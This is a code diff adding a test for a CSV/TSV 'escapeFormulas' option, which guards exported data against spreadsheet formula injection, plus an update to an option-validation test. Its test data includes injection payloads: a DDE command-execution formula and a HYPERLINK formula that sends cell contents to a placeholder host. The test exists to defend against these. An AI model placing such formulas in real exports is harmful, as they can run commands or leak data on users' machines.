@@ -79,9 +79,40 @@ describe('output options', () => {
     }
   });
 
+  it('escapeFormulas: a text cell that would start a formula gets a leading apostrophe, in CSV and TSV; numbers and other text stay (issue 24, row 5)', async () => {
+    // What the attack measured: 24 of 84 cells began with one of these and were written as they were.
+    const formulas = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1,"click")', '+1 555 0100', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', 'plain', "it's fine", '1+1='];
+    const hostile = compileBlueprint(doc([
+      table('t', formulas.length, [
+        { name: 'id', generator: 'sequence' },
+        { name: 'v', generator: 'list', options: { values: formulas }, unique: true },
+        { name: 'n', generator: 'number.int', options: { min: -9, max: -1 } },
+      ]),
+    ]));
+    const expected = (await collect(streamTable(hostile, 't', 'ndjson'))).trim().split('\n').map((l) => JSON.parse(l));
+    const escaped = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
+
+    const csv = parse(await collect(streamTable(hostile, 't', 'csv', { output: { escapeFormulas: true } })), { columns: true }) as Record<string, string>[];
+    expect(csv).toEqual(expected.map((r) => ({ id: String(r.id), v: escaped(r.v), n: String(r.n) })));
+    expect(csv.filter((r) => r.v.startsWith("'"))).toHaveLength(7);
+
+    const tsv = (await collect(streamTable(hostile, 't', 'tsv', { output: { escapeFormulas: true, header: false } }))).trim().split('\n');
+    const unescape = (cell: string) => cell.replace(/\\(.)/g, (_, c) => ({ t: '\t', n: '\n', r: '\r' })[c as 't' | 'n' | 'r'] ?? c);
+    expect(tsv.map((line) => line.split('\t').map(unescape))).toEqual(expected.map((r) => [String(r.id), escaped(r.v), String(r.n)]));
+
+    // Off by default, and ignored by the formats a database or a program loads.
+    const plain = await collect(streamTable(hostile, 't', 'csv'));
+    expect(plain).toContain(",=cmd|' /C calc'!A0,");
+    expect(plain).not.toContain("'=");
+    expect(await collect(streamTable(hostile, 't', 'ndjson', { output: { escapeFormulas: true } }))).toBe(await collect(streamTable(hostile, 't', 'ndjson')));
+    // The same bytes from worker threads and from a run's chunks.
+    const single = await collect(streamTable(hostile, 't', 'csv', { output: { escapeFormulas: true }, chunkRows: 3 }));
+    expect(await collect(streamTable(hostile, 't', 'csv', { output: { escapeFormulas: true }, chunkRows: 3, workers: 2 }))).toBe(single);
+  });
+
   it('names each invalid option by its path', () => {
-    const issues = outputIssues({ delimiter: ';;', header: 'yes', lineEnding: 'cr', nullMarker: 'x'.repeat(33), pretty: 1, colour: 'red' }, ['csv'], 'output');
-    expect(issues.map((i) => i.path).sort()).toEqual(['output.colour', 'output.delimiter', 'output.header', 'output.lineEnding', 'output.nullMarker', 'output.pretty']);
+    const issues = outputIssues({ delimiter: ';;', header: 'yes', lineEnding: 'cr', nullMarker: 'x'.repeat(33), pretty: 1, escapeFormulas: 'on', colour: 'red' }, ['csv'], 'output');
+    expect(issues.map((i) => i.path).sort()).toEqual(['output.colour', 'output.delimiter', 'output.escapeFormulas', 'output.header', 'output.lineEnding', 'output.nullMarker', 'output.pretty']);
     expect(outputIssues({ delimiter: '"' }, ['csv']).map((i) => i.path)).toEqual(['delimiter']);
     expect(outputIssues({ delimiter: '\n' }, ['csv'])).toHaveLength(1);
     expect(outputIssues({ nullMarker: 'a,b' }, ['csv'])[0]).toMatchObject({ path: 'nullMarker', message: expect.stringMatching(/delimiter/) });
